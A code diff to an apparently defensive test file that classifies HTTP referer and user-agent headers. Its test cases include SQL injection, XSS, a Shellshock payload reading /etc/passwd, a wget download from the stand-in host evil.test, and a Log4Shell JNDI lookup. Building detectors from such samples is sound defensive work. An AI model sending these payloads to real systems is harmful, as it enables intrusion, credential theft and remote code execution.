@@ -110,7 +110,7 @@ def test_a_referer_url_is_a_navigation_fact(referer: str) -> None:
         ("referer", "http://127.0.0.1/?id=1' OR '1'='1", "sqli"),
         ("referer", "http://localhost/<script>alert(1)</script>", "xss"),
         ("user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'", "cmdi"),
-        ("user-agent", "curl/8.0; wget http://evil.test/x -O /tmp/x", "cmdi"),
+        ("user-agent", "curl/8.0; wget http://evil.test/x -O /dev/shm/x", "cmdi"),
         ("user-agent", "sqlmap/1.8 (https://sqlmap.org)", "scanner"),
         ("user-agent", "${jndi:ldap://evil.test/a}", "code_injection"),
     ],
